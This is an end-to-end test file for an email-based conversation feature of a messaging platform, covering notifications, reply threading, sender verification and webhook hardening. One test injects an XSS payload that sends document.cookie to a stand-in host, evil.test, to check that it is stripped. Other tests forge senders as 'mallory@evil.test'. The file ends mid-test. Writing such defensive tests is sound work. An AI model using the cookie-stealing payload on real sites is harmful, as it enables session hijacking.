import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { createOrganization, eventually, TestOrganization } from '../support/api.js';
import { addNamedUser as addUser, openConversation, postReply, startConversation, type NamedUser } from '../support/conversations.js';
import { postInboundEmail, postUnfinishedMultipart, type InboundAuth, type InboundFile, type InboundParseMail } from '../support/inbound-email.js';
import { Platform } from '../support/platform.js';
import { SendgridFake } from '../fakes/sendgrid-fake.js';

type TestUser = NamedUser;
type NotificationKind = 'new_message' | 'unread_reminder' | 'read_receipt';
type NotificationRow = { user_id: string; channel: string; kind: string; about_user_id: string; status: string };
const orderKey = (row: NotificationRow) => `${row.kind} ${row.user_id} ${row.channel} ${row.about_user_id}`;
const inOrder = (rows: NotificationRow[]) => [...rows].sort((a, b) => (orderKey(a) < orderKey(b) ? -1 : orderKey(a) > orderKey(b) ? 1 : 0));

const SENDGRID_KEY = 'SG.conversation-email-test-key';
const INBOUND_SECRET = 'inbound-parse-secret-0123456789';
const REPLY_DOMAIN = 'reply.tidings.test';
const APP_URL = 'https://app.tidings.test';
const REPLY_ADDRESS = /^reply\+[a-z2-7]+@reply\.tidings\.test$/;
const MESSAGE_ID = /^<[^<>\s]+@[^<>\s]+>$/;

/**
 * Conversations by email, end to end: the API and worker as processes on a real PostgreSQL and a real
 * Temporal dev server, SendGrid as a loopback fake reached by the official SDK, and replies posted to the
 * inbound webhook as SendGrid Inbound Parse posts them.
 */
describe('conversations by email (end to end)', () => {
  const sendgrid = new SendgridFake(SENDGRID_KEY);
  const scratch = fs.mkdtempSync(path.join(os.tmpdir(), 'tidings-conversation-email-'));
  const attachmentsDir = path.join(scratch, 'attachments');
  let platform: Platform;
  let privacy: TestOrganization;
  let convenience: TestOrganization;
  // privacy-mode organisation (the default)
  let sam: TestUser;
  let alice: TestUser;
  let bob: TestUser;
  // convenience-mode organisation
  let cora: TestUser;
  let dan: TestUser;
  let alma: TestUser;
  let bert: TestUser;

  beforeAll(async () => {
    const sendgridUrl = await sendgrid.start();
    platform = await new Platform({
      env: {
        EMAIL_PROVIDER: 'sendgrid',
        SENDGRID_API_KEY: SENDGRID_KEY,
        SENDGRID_API_BASE_URL: sendgridUrl,
        EMAIL_FROM: 'Tidings <no-reply@tidings.test>',
        EMAIL_REPLY_DOMAIN: REPLY_DOMAIN,
        INBOUND_EMAIL_SECRET: INBOUND_SECRET,
        ATTACHMENTS_DIR: attachmentsDir,
      },
    }).start();
    [privacy, convenience] = await Promise.all([
      createOrganization(platform.baseUrl),
      createOrganization(platform.baseUrl, { notificationMode: 'convenience' }),
    ]);
    [sam, alice, bob, cora, dan, alma, bert] = await Promise.all([
      addUser(privacy, 'staff', 'Sam Staff'),
      addUser(privacy, 'member', 'Alice Member'),
      addUser(privacy, 'member', 'Bob Member'),
      addUser(convenience, 'staff', 'Cora Staff'),
      addUser(convenience, 'staff', 'Dan Staff'),
      addUser(convenience, 'member', 'Alma Member'),
      addUser(convenience, 'member', 'Bert Member'),
    ]);
  }, 120_000);

  afterAll(async () => {
    await platform?.stop();
    await sendgrid.stop();
    fs.rmSync(scratch, { recursive: true, force: true });
  });

  const start = (user: TestUser, body: Record<string, unknown>) => startConversation(user.api, body);
  const reply = (user: TestUser, id: string, body: string, extra: Record<string, unknown> = {}) => postReply(user.api, id, body, extra);
  const view = (user: TestUser, id: string) => openConversation(user.api, id);

  /** The email the platform recorded as sent to `user` about a message, as SendGrid received it. */
  const emailOf = (messageId: string, user: TestUser, kind: NotificationKind = 'new_message', aboutUserId = user.id) =>
    eventually(async () => {
      const rows = await platform.query<{ status: string; provider_message_id: string }>(
        `select status, provider_message_id from delivery
          where subject_type = 'conversation_message' and subject_id = $1 and recipient_id = $2 and channel = 'email' and kind = $3 and about_user_id = $4`,
        [messageId, user.id, kind, aboutUserId],
      );
      expect(rows).toEqual([{ status: 'sent', provider_message_id: expect.any(String) }]);
      const mails = sendgrid.delivered.filter((mail) => mail.providerMessageId === rows[0].provider_message_id);
      expect(mails).toHaveLength(1);
      expect(mails[0].to).toEqual([user.email]);
      return mails[0];
    });

  /** Every notification about a message, once its workflow has finished (nothing more can come). */
  const finalNotificationsOf = async (messageId: string) => {
    await eventually(async () => {
      const description = await platform.client.workflow.getHandle(`conversation-message-${messageId}`).describe();
      expect(description.status.name).toBe('COMPLETED');
    });
    const rows = await platform.query<NotificationRow>(
      `select recipient_id as user_id, channel, kind, about_user_id, status from delivery where subject_type = 'conversation_message' and subject_id = $1`,
      [messageId],
    );
    return inOrder(rows);
  };

  const inbound = (mail: InboundParseMail, auth: InboundAuth = { secret: INBOUND_SECRET }) => postInboundEmail(platform.baseUrl, mail, auth);
  const messageCount = async (conversationId: string) =>
    (await platform.query<{ n: number }>(`select count(*)::int as n from conversation_message where conversation_id = $1`, [conversationId]))[0].n;
  const inboundCount = async () => (await platform.query<{ n: number }>(`select count(*)::int as n from inbound_email`))[0].n;
  /** Every file under the attachments directory, incoming ones included. */
  const storedFiles = () =>
    (fs.readdirSync(attachmentsDir, { recursive: true }) as string[]).filter((name) => fs.statSync(path.join(attachmentsDir, name)).isFile()).sort();
  const attachmentCount = async () => (await platform.query<{ n: number }>(`select count(*)::int as n from attachment`))[0].n;
  const statusOf = async (conversationId: string) =>
    (await platform.query<{ status: string }>(`select status from conversation where id = $1`, [conversationId]))[0].status;

  /** A reply as Gmail sends it: the answer on top, the earlier message quoted below it in both parts. */
  const gmailReply = (answerText: string, answerHtml: string, quoted: string) => ({
    text: `${answerText}\r\n\r\nOn Mon, Jan 8, 2024 at 10:15 AM Tidings <no-reply@tidings.test>\r\nwrote:\r\n\r\n> ${quoted}\r\n>\r\n`,
    html:
      `<div dir="ltr">${answerHtml}</div><br><div class="gmail_quote gmail_quote_container"><div dir="ltr" class="gmail_attr">` +
      'On Mon, Jan 8, 2024 at 10:15\u202fAM Tidings &lt;<a href="mailto:no-reply@tidings.test">no-reply@tidings.test</a>&gt; wrote:<br></div>' +
      `<blockquote class="gmail_quote" style="margin:0px 0px 0px 0.8ex;border-left:1px solid rgb(204,204,204);padding-left:1ex"><div dir="ltr">${quoted}</div></blockquote></div>`,
  });
  const replyFrom = (user: TestUser, to: string, answer = 'Thanks, noted.', extra: Partial<InboundParseMail> = {}): InboundParseMail => ({
    from: `${user.name} <${user.email}>`,
    to,
    SPF: 'pass',
    dkim: '{@example.org : pass}',
    ...gmailReply(answer, answer, 'the earlier message'),
    ...extra,
  });

  /** Posts a mail that must be refused: 200 with the reason, nothing posted, recorded, and audited when the conversation is known. */
  const expectRefused = async (mail: InboundParseMail, reason: RegExp, conversationId: string, audited = true) => {
    const before = await messageCount(conversationId);
    const response = await inbound(mail);
    expect(response).toEqual({ status: 200, body: { status: 'refused', reason: expect.stringMatching(reason) } });
    expect(await messageCount(conversationId)).toBe(before);
    const [row] = await platform.query<{ id: string; status: string; reason: string; conversation_id: string | null; message_id: string | null }>(
      `select id, status, reason, conversation_id, message_id from inbound_email order by created_at desc limit 1`,
    );
    expect(row).toEqual({
      id: expect.any(String),
      status: 'refused',
      reason: response.body.reason,
      conversation_id: audited ? conversationId : null,
      message_id: null,
    });
    const audit = await platform.query<{ subject_id: string }>(
      `select subject_id from audit_event where action = 'conversation.email_reply_refused' and details->>'inboundEmailId' = $1`,
      [row.id],
    );
    expect(audit).toEqual(audited ? [{ subject_id: conversationId }] : []);
    return row;
  };

  describe('privacy mode', () => {
    test('each recipient is told by email that a message waits, with a link and threading headers but not a word of the conversation; the author hears nothing', async () => {
      const conversation = await start(sam, {
        subject: 'Biopsy results ZEPHYRINE',
        to: [alice.id, bob.id],
        body: '<p>Your MARIGOLD panel came back clear.</p>',
      });

      const mails = [await emailOf(conversation.firstMessageId, alice), await emailOf(conversation.firstMessageId, bob)];
      for (const mail of mails) {
        for (const secret of ['ZEPHYRINE', 'MARIGOLD', 'panel', 'Biopsy', 'Sam Staff']) expect(JSON.stringify(mail)).not.toContain(secret);
        expect(mail.subject).toContain('secure message');
        expect(mail.text).toContain(`${APP_URL}/conversations/${conversation.id}`);
        expect(mail.html).toContain(`href="${APP_URL}/conversations/${conversation.id}"`);
        // Privacy mode invites no answer by email.
        expect(mail.replyTo).toBeUndefined();
        expect(mail.headers).toEqual({
          'Message-ID': expect.stringMatching(MESSAGE_ID),
          'In-Reply-To': expect.stringMatching(MESSAGE_ID),
          References: mails[0].headers!['In-Reply-To'],
        });
      }
      expect(mails[0].headers!['Message-ID']).not.toBe(mails[1].headers!['Message-ID']);
      expect(mails[0].headers!['In-Reply-To']).toBe(mails[1].headers!['In-Reply-To']);

      expect(await finalNotificationsOf(conversation.firstMessageId)).toEqual(
        inOrder([
          { user_id: alice.id, channel: 'email', kind: 'new_message', about_user_id: alice.id, status: 'sent' },
          { user_id: bob.id, channel: 'email', kind: 'new_message', about_user_id: bob.id, status: 'sent' },
        ]),
      );
      expect(sendgrid.received.filter((mail) => mail.to.includes(sam.email))).toEqual([]);
    });

    test('when a recipient reads a message that asked for a read receipt, its author gets an email that names neither the reader nor the subject', async () => {
      const conversation = await start(sam, { subject: 'Scan results QUINCE', to: [alice.id], body: '<p>The OBSIDIAN scan is fine.</p>', readReceipt: true });
      const messageId = conversation.firstMessageId;
      await emailOf(messageId, alice);

      const read = await alice.api.post(`/v1/conversations/${conversation.id}/read`);
      expect(read.status).toBe(200);

      const receipt = await emailOf(messageId, sam, 'read_receipt', alice.id);
      for (const secret of ['QUINCE', 'OBSIDIAN', 'Alice', alice.email]) expect(JSON.stringify(receipt)).not.toContain(secret);
      expect(receipt.subject).toBe('A secure message was read');
      expect(receipt.text).toContain(`${APP_URL}/conversations/${conversation.id}`);
      expect(receipt.replyTo).toBeUndefined();
      // Who read it is for the author to see inside the platform.
      const [message] = (await view(sam, conversation.id)).messages;
      expect(message.readBy).toEqual([{ userId: alice.id, name: 'Alice Member', readAt: expect.any(String) }]);

      // Reading again sends nothing more; with everyone having read, the message's workflow is done.
      expect((await alice.api.post(`/v1/conversations/${conversation.id}/read`)).status).toBe(200);
      expect(await finalNotificationsOf(messageId)).toEqual(
        inOrder([
          { user_id: alice.id, channel: 'email', kind: 'new_message', about_user_id: alice.id, status: 'sent' },
          { user_id: sam.id, channel: 'email', kind: 'read_receipt', about_user_id: alice.id, status: 'sent' },
        ]),
      );
    });
  });

  describe('convenience mode', () => {
    test('the email carries the subject and text, a reply-to address of its own per recipient and conversation, and headers that thread the conversation', async () => {
      const first = await start(cora, { subject: 'Appointment on Tuesday', to: [alma.id, bert.id], body: '<p>Please bring your <b>insurance card</b>.</p>' });
      const second = await start(cora, { subject: 'Lab paperwork', to: [alma.id], body: '<p>Sign the consent form.</p>' });
      const almaAnswer = await reply(alma, first.id, '<p>Will do, see you then.</p>');
      const followUp = await reply(cora, first.id, '<p>Great: 9am at the front desk.</p>');

      const toAlma = await emailOf(first.firstMessageId, alma);
      const toBert = await emailOf(first.firstMessageId, bert);
      expect(toAlma.subject).toBe('Appointment on Tuesday');
      expect(toAlma.text).toContain('Cora Staff wrote:');
      expect(toAlma.text).toContain('Please bring your insurance card.');
      expect(toAlma.html).toContain('insurance card');
      expect(toAlma.text).toContain(`${APP_URL}/conversations/${first.id}`);
      expect(toAlma.replyTo).toMatch(REPLY_ADDRESS);
      expect(toBert.replyTo).toMatch(REPLY_ADDRESS);
      expect(toBert.replyTo).not.toBe(toAlma.replyTo);

      const otherConversation = await emailOf(second.firstMessageId, alma);
      expect(otherConversation.subject).toBe('Lab paperwork');
      expect(otherConversation.replyTo).toMatch(REPLY_ADDRESS);
      expect(otherConversation.replyTo).not.toBe(toAlma.replyTo);

      const answerToCora = await emailOf(almaAnswer.id, cora);
      expect(answerToCora.text).toContain('Alma Member wrote:');
      expect(answerToCora.text).toContain('Will do, see you then.');
      const followUpToAlma = await emailOf(followUp.id, alma);
      expect(followUpToAlma.text).toContain('9am at the front desk');
      // One address per recipient and conversation: answering any of its mails lands in the same place.
      expect(followUpToAlma.replyTo).toBe(toAlma.replyTo);

      const thread = [toAlma, toBert, answerToCora, await emailOf(almaAnswer.id, bert), followUpToAlma, await emailOf(followUp.id, bert)];
      const root = toAlma.headers!['In-Reply-To'];
      expect(root).toMatch(MESSAGE_ID);
      for (const mail of thread) expect(mail.headers).toEqual({ 'Message-ID': expect.stringMatching(MESSAGE_ID), 'In-Reply-To': root, References: root });
      expect(otherConversation.headers!['In-Reply-To']).toMatch(MESSAGE_ID);
      expect(otherConversation.headers!['In-Reply-To']).not.toBe(root);
      const ids = [...thread, otherConversation].map((mail) => mail.headers!['Message-ID']);
      expect(new Set([...ids, root]).size).toBe(ids.length + 1);
    });
  });

  describe('replies by email', () => {
    let conversation: { id: string; firstMessageId: string };
    let almaAddress: string;
    let coraAddress: string;

    beforeAll(async () => {
      conversation = await start(cora, {
        subject: 'Your prescription renewal',
        to: [alma.id, bert.id],
        cc: [dan.id],
        body: '<p>Your renewal is ready for pickup.</p>',
      });
      almaAddress = (await emailOf(conversation.firstMessageId, alma)).replyTo!;
      const almaMessage = await reply(alma, conversation.id, '<p>Which pharmacy?</p>');
      coraAddress = (await emailOf(almaMessage.id, cora)).replyTo!;
      expect(coraAddress).toMatch(REPLY_ADDRESS);
    });

    test('a reply from the recipient lands in the conversation as their message, without the quoted mail or unsafe markup, and staff are told', async () => {
      const SECRET = 'PINEAPPLE-7781';
      const posted = await inbound({
        from: `Alma Member <${alma.email}>`,
        to: almaAddress,
        SPF: 'pass',
        dkim: '{@gmail.com : pass}',
        ...gmailReply(
          'Thank you, I will pick it up tomorrow.',
          'Thank you, I will pick it up <b>tomorrow</b>.<script>document.location="https://evil.test/?"+document.cookie</script><img src="x" onerror="alert(1)">',
          `${SECRET}: your renewal is ready for pickup.`,
        ),
      });
      expect(posted).toEqual({ status: 200, body: { status: 'accepted', messageId: expect.any(String) } });
      const messageId = posted.body.messageId;

      const message = (await view(cora, conversation.id)).messages.find((m: { id: string }) => m.id === messageId);
      expect(message).toEqual({
        id: messageId,
        sequence: expect.any(Number),
        author: { id: alma.id, name: 'Alma Member' },
        bodyHtml: expect.stringContaining('<b>tomorrow</b>'),
        bodyText: 'Thank you, I will pick it up tomorrow.',
        source: 'email',
        system: false,
        createdAt: expect.any(String),
        attachments: [],
        readReceipt: false,
      });
      for (const gone of [SECRET, 'wrote:', '<script', 'document.cookie', 'evil.test', 'onerror', '<img']) expect(message.bodyHtml).not.toContain(gone);
      // The sender sees it as their own.
      expect((await view(alma, conversation.id)).messages.map((m: { id: string }) => m.id)).toContain(messageId);

      for (const staff of [cora, dan]) {
        const mail = await emailOf(messageId, staff);
        expect(mail.text).toContain('Alma Member wrote:');
        expect(mail.text).toContain('Thank you, I will pick it up tomorrow.');
        expect(JSON.stringify(mail)).not.toContain(SECRET);
      }
      const notified = await finalNotificationsOf(messageId);
      expect(notified.map((row) => row.user_id).sort()).toEqual([bert.id, cora.id, dan.id].sort());
      expect(notified.every((row) => row.status === 'sent')).toBe(true);

      expect(
        await platform.query(`select from_address, to_address, status, reason, conversation_id, user_id from inbound_email where message_id = $1`, [messageId]),
      ).toEqual([{ from_address: alma.email, to_address: almaAddress, status: 'accepted', reason: null, conversation_id: conversation.id, user_id: alma.id }]);
    });

    test('a plain-text-only reply works, whatever the basic-auth user name', async () => {
      const posted = await inbound(
        {
          from: alma.email,
          to: almaAddress,
          SPF: 'pass',
          text: 'See you at nine.\n\nOn Tue, Jan 9, 2024 at 8:00 AM Tidings <no-reply@tidings.test> wrote:\n> earlier\n',
        },
        { secret: INBOUND_SECRET, user: 'inbound-parse' },
      );
      expect(posted).toEqual({ status: 200, body: { status: 'accepted', messageId: expect.any(String) } });
      const message = (await view(cora, conversation.id)).messages.find((m: { id: string }) => m.id === posted.body.messageId);
      expect(message).toMatchObject({ author: { id: alma.id }, source: 'email', bodyText: 'See you at nine.' });
    });

    test('mail from someone else using a member’s reply address is refused, recorded and audited; nothing is posted', async () => {
      // Staff, another member in the same conversation, and someone who is no user at all.
      await expectRefused(replyFrom(cora, almaAddress), /sender does not match the reply address/, conversation.id);
      await expectRefused(replyFrom(bert, almaAddress), /sender does not match the reply address/, conversation.id);
      await expectRefused({ ...replyFrom(alma, almaAddress), from: 'Alma Member <alma.member@gmail.example>' }, /sender does not match/, conversation.id);
      const row = await expectRefused(
        { ...replyFrom(alma, almaAddress), from: 'Stranger <stranger@elsewhere.test>' },
        /sender does not match/,
        conversation.id,
      );
      expect(await platform.query(`select from_address, to_address, user_id from inbound_email where id = $1`, [row.id])).toEqual([
        { from_address: 'stranger@elsewhere.test', to_address: almaAddress, user_id: null },
      ]);
    });

    test('a display name that looks like the member’s address does not make someone else’s mail theirs', async () => {
      // Mallory's own domain passes SPF and DKIM; only the display name, which any webmail lets her set, claims to be Alma.
      for (const from of [`"${alma.email}" <mallory@evil.test>`, `"Alma Member <${alma.email}>" <mallory@evil.test>`]) {
        const row = await expectRefused(
          { ...replyFrom(alma, almaAddress), from, envelope: { to: [almaAddress], from: 'mallory@evil.test' }, dkim: '{@evil.test : pass}' },
          /sender does not match/,
          conversation.id,
        );
        expect((await platform.query(`select from_address from inbound_email where id = $1`, [row.id]))[0]).toEqual({ from_address: 'mallory@evil.test' });
      }
    });

    test('mail whose SPF and DKIM pass only for another domain than its From address is refused (DMARC-style alignment)', async () => {
      // Mallory's own envelope sender and DKIM signature pass, but the From header is plainly Alma's.
      await expectRefused(
        replyFrom(alma, almaAddress, 'Posing as Alma', {
          SPF: 'pass',
          dkim: '{@evil.test : pass}',
          envelope: { to: [almaAddress], from: 'mallory@evil.test' },
        }),
        /SPF nor DKIM passes for the sender's domain/,
        conversation.id,
      );
    });

    test('a tampered or foreign reply address is refused', async () => {
      const token = /^reply\+([a-z2-7]+)@/.exec(almaAddress)![1];
      const changed = (at: number) => `${token.slice(0, at)}${token[at] === 'a' ? 'b' : 'a'}${token.slice(at + 1)}`;
      // One character of the signature.
      await expectRefused(replyFrom(alma, `reply+${changed(token.length - 5)}@${REPLY_DOMAIN}`), /sender does not match the reply address/, conversation.id);
      // One character of the conversation it names.
      const refused = await inbound(replyFrom(alma, `reply+${changed(3)}@${REPLY_DOMAIN}`));
      expect(refused).toEqual({ status: 200, body: { status: 'refused', reason: expect.any(String) } });
      // The right token at someone else's domain, and no token at all.
      await expectRefused(replyFrom(alma, `reply+${token}@reply.elsewhere.test`), /not addressed to a reply address of ours/, conversation.id, false);
      await expectRefused(replyFrom(alma, `support@${REPLY_DOMAIN}`), /not addressed to a reply address of ours/, conversation.id, false);
    });

    test('mail whose sender domain fails both SPF and DKIM is refused; one of them passing is enough', async () => {
      await expectRefused(replyFrom(alma, almaAddress, 'Forged?', { SPF: 'fail', dkim: '{@example.org : fail}' }), /SPF nor DKIM/, conversation.id);
      await expectRefused(replyFrom(alma, almaAddress, 'Forged?', { SPF: 'softfail', dkim: 'none' }), /SPF nor DKIM/, conversation.id);

      const passed = await inbound(replyFrom(alma, almaAddress, 'Forwarded through my work relay.', { SPF: 'fail', dkim: '{@example.org : pass}' }));
      expect(passed).toEqual({ status: 200, body: { status: 'accepted', messageId: expect.any(String) } });
    });

    test('a missing or wrong secret is 401 and nothing is recorded; ?secret= is no longer accepted, even the right one', async () => {
      const before = await inboundCount();
      const messages = await messageCount(conversation.id);
      for (const auth of [
        {},
        { secret: 'not-the-inbound-secret-at-all' },
        { secret: `${INBOUND_SECRET}0` },
        { secret: 'not-the-inbound-secret-at-all', via: 'query' as const },
        { secret: INBOUND_SECRET, via: 'query' as const },
      ]) {
        const response = await inbound(replyFrom(alma, almaAddress), auth);
        expect(response).toEqual({ status: 401, body: { statusCode: 401, error: 'Unauthorized', message: 'the inbound email secret is missing or wrong' } });
      }
      expect(await inboundCount()).toBe(before);
      expect(await messageCount(conversation.id)).toBe(messages);
    });

    test('staff can answer by email too, with their own reply address', async () => {
      const posted = await inbound(replyFrom(cora, coraAddress, 'The pharmacy on Main Street.'));
      expect(posted).toEqual({ status: 200, body: { status: 'accepted', messageId: expect.any(String) } });
      const message = (await view(alma, conversation.id)).messages.find((m: { id: string }) => m.id === posted.body.messageId);
      expect(message).toMatchObject({ author: { id: cora.id, name: 'Cora Staff' }, source: 'email', bodyText: 'The pharmacy on Main Street.' });
      expect((await emailOf(posted.body.messageId, alma)).text).toContain('The pharmacy on Main Street.');
    });

    test('files attached to an email reply become attachments of the message when allowed; a disallowed one is left out and recorded', async () => {
      const pdf = Buffer.from('%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n');
      const posted = await postInboundEmail(platform.baseUrl, replyFrom(alma, almaAddress, 'My insurance card is attached.'), { secret: INBOUND_SECRET }, [
        { filename: 'card.pdf', content: pdf, contentType: 'application/pdf' },
        { filename: 'setup.exe', content: Buffer.from('MZ\x90\x00 not allowed'), contentType: 'application/octet-stream' },
      ]);
      expect(posted).toEqual({ status: 200, body: { status: 'accepted', messageId: expect.any(String) } });
      const message = (await view(cora, conversation.id)).messages.find((m: { id: string }) => m.id === posted.body.messageId);
      expect(message.attachments).toEqual([expect.objectContaining({ filename: 'card.pdf', contentType: 'application/pdf', size: pdf.length })]);
      const download = await fetch(`${platform.baseUrl}/v1/attachments/${message.attachments[0].id}`, {
        headers: { authorization: `Bearer ${cora.api.token}` },
      });
      expect(download.status).toBe(200);
      expect(Buffer.from(await download.arrayBuffer()).equals(pdf)).toBe(true);
      const [record] = await platform.query<{ reason: string }>(`select reason from inbound_email where message_id = $1`, [posted.body.messageId]);
      expect(record.reason).toMatch(/attachments not kept: setup\.exe/);
    });
  });

  describe('the webhook is no way to hurt the service', () => {
    let conversation: { id: string; firstMessageId: string };
    let almaAddress: string;
    const pdf: InboundFile = {
      filename: 'card.pdf',
      content: Buffer.from('%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n'),
      contentType: 'application/pdf',
    };
    const withFiles = (mail: InboundParseMail, files: InboundFile[] = [pdf]) => postInboundEmail(platform.baseUrl, mail, { secret: INBOUND_SECRET }, files);

    beforeAll(async () => {
      conversation = await start(cora, { subject: 'Your new card', to: [alma.id], body: '<p>Please send a photo of your card.</p>' });
      almaAddress = (await emailOf(conversation.firstMessageId, alma)).replyTo!;
    });

    /** Runs `attempt` and checks it left no message, no inbound record, no attachment row and no file. */
    const leavesNothing = async <T>(attempt: () => Promise<T>, recorded = 0): Promise<T> => {
      const [files, attachments, inbounds, messages] = [storedFiles(), await attachmentCount(), await inboundCount(), await messageCount(conversation.id)];
      const result = await attempt();
      expect(storedFiles()).toEqual(files);
      expect(await attachmentCount()).toBe(attachments);
      expect(await inboundCount()).toBe(inbounds + recorded);
      expect(await messageCount(conversation.id)).toBe(messages);
      return result;
    };

    test('an unauthenticated post with a large file is 401 before its body is read: the answer comes while it is still being sent, and no file is written', async () => {
      for (const auth of [{}, { secret: 'not-the-inbound-secret-at-all' }, { secret: INBOUND_SECRET, via: 'query' as const }]) {
        const response = await leavesNothing(() => postUnfinishedMultipart(platform.baseUrl, auth));
        expect(response).toMatchObject({
          status: 401,
          answeredWhileSending: true,
          body: { statusCode: 401, message: 'the inbound email secret is missing or wrong' },
        });
      }
    });

    test('text fields over 1 MB, one or all together, are 413 naming the field; nothing is posted, recorded or kept', async () => {
      const tooLarge = await leavesNothing(() => withFiles(replyFrom(alma, almaAddress, 'x'.repeat(1024 * 1024 + 1))));
      // Gmail's reply carries the answer in html, then in text: html is the field over 1 MB.
      expect(tooLarge).toMatchObject({ status: 413, body: { statusCode: 413, details: [{ field: 'html', message: 'must be at most 1 MB' }] } });
      const together = await leavesNothing(() =>
        postInboundEmail(platform.baseUrl, replyFrom(alma, almaAddress, 'y'.repeat(700 * 1024)), { secret: INBOUND_SECRET }, [pdf], { filesFirst: true }),
      );
      // 700 KB in html, then 700 KB in text: text takes the fields over 1 MB together.
      expect(together).toMatchObject({
        status: 413,
        body: { statusCode: 413, details: [{ field: 'text', message: 'the text fields together must be at most 1 MB' }] },
      });
    });

    test('refused mail leaves no file behind: an unknown address, a wrong sender, a reply too large, a closed conversation', async () => {
      const refusedWith = async (mail: InboundParseMail, reason: RegExp) => {
        const response = await leavesNothing(() => withFiles(mail, [pdf, { ...pdf, filename: 'second.pdf' }]), 1);
        expect(response).toEqual({ status: 200, body: { status: 'refused', reason: expect.stringMatching(reason) } });
      };
      await refusedWith(replyFrom(alma, `support@${REPLY_DOMAIN}`), /not addressed to a reply address of ours/);
      await refusedWith(replyFrom(bert, almaAddress), /sender does not match the reply address/);
      await refusedWith(replyFrom(alma, almaAddress, `<p>${'z'.repeat(300 * 1024)}</p>`), /the reply is larger than 256 KB/);

      // Refused only once its files were kept as attachments: they go again, rows and files.
      const closing = await start(cora, { subject: 'Closing with files', to: [alma.id], body: '<p>Anything else?</p>' });
      const closingAddress = (await emailOf(closing.firstMessageId, alma)).replyTo!;
      expect((await cora.api.post(`/v1/conversations/${closing.id}/close`)).status).toBe(200);
      const [files, attachments] = [storedFiles(), await attachmentCount()];
      const response = await withFiles(replyFrom(alma, closingAddress, 'Here is my card.'));
      expect(response).toEqual({ status: 200, body: { status: 'refused', reason: expect.stringMatching(/allowContactsToReopen/) } });
      expect(storedFiles()).toEqual(files);
      expect(await attachmentCount()).toBe(attachments);
      expect(await messageCount(closing.id)).toBe(1);
    });

    test('the same Message-ID posted again, even at the same time, yields one message; the repeats get its outcome and keep no file', async () => {
      const mail = replyFrom(alma, almaAddress, 'Sent once, posted twice.', { messageId: '<CAF=retry-1@mail.gmail.example>' });
      const first = await withFiles(mail);
      expect(first).toEqual({ status: 200, body: { status: 'accepted', messageId: expect.any(String) } });
      const repeat = await leavesNothing(() => withFiles(mail));
      expect(repeat).toEqual({ status: 200, body: { status: 'accepted', messageId: first.body.messageId, repeat: true } });
      expect(await platform.query(`select message_id, email_message_id from inbound_email where email_message_id like 'CAF=retry-1@%'`)).toEqual([
        { message_id: first.body.messageId, email_message_id: 'CAF=retry-1@mail.gmail.example' },
      ]);

      // Racing posts: one wins, the others wait for it and answer with its message.
      const racing = replyFrom(alma, almaAddress, 'Posted three times at once.', { messageId: '<CAF=race-2@mail.gmail.example>' });
      const [messages, attachments, files] = [await messageCount(conversation.id), await attachmentCount(), storedFiles().length];
      const answers = await Promise.all([withFiles(racing), withFiles(racing), withFiles(racing)]);
      expect(answers.map((answer) => answer.status)).toEqual([200, 200, 200]);
      expect(new Set(answers.map((answer) => answer.body.status))).toEqual(new Set(['accepted']));
      expect(new Set(answers.map((answer) => answer.body.messageId)).size).toBe(1);
      expect(answers.filter((answer) => answer.body.repeat === true)).toHaveLength(2);
      expect(await messageCount(conversation.id)).toBe(messages + 1);
      expect(await attachmentCount()).toBe(attachments + 1);
      expect(storedFiles()).toHaveLength(files + 1);
      const message = (await view(cora, conversation.id)).messages.find((m: { id: string }) => m.id === answers[0].body.messageId);
      expect(message.attachments).toEqual([expect.objectContaining({ filename: 'card.pdf' })]);

      // A refusal is answered the same way when it comes again, and recorded once.
      const refused = replyFrom(bert, almaAddress, 'Not mine to send.', { messageId: '<CAF=refused-3@mail.gmail.example>' });
      const refusal = await withFiles(refused);
      expect(refusal).toEqual({ status: 200, body: { status: 'refused', reason: expect.stringMatching(/sender does not match/) } });
      expect(await leavesNothing(() => withFiles(refused))).toEqual({ status: 200, body: { ...refusal.body, repeat: true } });
    });
  });

  describe('leaving and closing', () => {
    test('someone who left hears nothing of later messages, and their email replies are refused', async () => {
      const conversation = await start(cora, { subject: 'Moving house', to: [alma.id, bert.id], body: '<p>Please confirm your new address.</p>' });
      const bertAddress = (await emailOf(conversation.firstMessageId, bert)).replyTo!;
      await emailOf(conversation.firstMessageId, alma);

      expect((await bert.api.post(`/v1/conversations/${conversation.id}/leave`)).status).toBe(204);
      const later = await reply(cora, conversation.id, '<p>Thanks, updated.</p>');

      expect(await finalNotificationsOf(later.id)).toEqual([
        { user_id: alma.id, channel: 'email', kind: 'new_message', about_user_id: alma.id, status: 'sent' },
      ]);
      expect(sendgrid.received.filter((mail) => mail.to.includes(bert.email) && mail.text?.includes('Thanks, updated.'))).toEqual([]);

      const row = await expectRefused(replyFrom(bert, bertAddress, 'I am back!'), /no longer in the conversation/, conversation.id);
      expect((await platform.query(`select user_id from inbound_email where id = $1`, [row.id]))[0]).toEqual({ user_id: bert.id });
    });

    test('an email reply to a closed conversation is refused, unless contacts may reopen: then a member’s reply reopens it', async () => {
      const conversation = await start(cora, { subject: 'Closing soon', to: [alma.id], body: '<p>Anything else?</p>' });
      const almaAddress = (await emailOf(conversation.firstMessageId, alma)).replyTo!;
      const almaMessage = await reply(alma, conversation.id, '<p>One more question.</p>');
      const coraAddress = (await emailOf(almaMessage.id, cora)).replyTo!;
      expect((await cora.api.post(`/v1/conversations/${conversation.id}/close`)).status).toBe(200);

      await expectRefused(replyFrom(alma, almaAddress, 'Wait, one more thing.'), /allowContactsToReopen/, conversation.id);
      expect(await statusOf(conversation.id)).toBe('closed');

      expect((await convenience.admin.patch('/v1/organization/settings', { allowContactsToReopen: true })).status).toBe(200);
      try {
        // Staff still reopen explicitly first.
        await expectRefused(replyFrom(cora, coraAddress, 'Reopening by mail.'), /reopen it before replying/, conversation.id);
        expect(await statusOf(conversation.id)).toBe('closed');

        const posted = await inbound(replyFrom(alma, almaAddress, 'Wait, one more thing.'));
        expect(posted).toEqual({ status: 200, body: { status: 'accepted', messageId: expect.any(String) } });
        const reopened = await view(cora, conversation.id);
        expect(reopened).toMatchObject({ status: 'open', closedAt: null });
        expect(reopened.messages.at(-1)).toMatchObject({
          id: posted.body.messageId,
          author: { id: alma.id },
          source: 'email',
          bodyText: 'Wait, one more thing.',
        });
        expect(
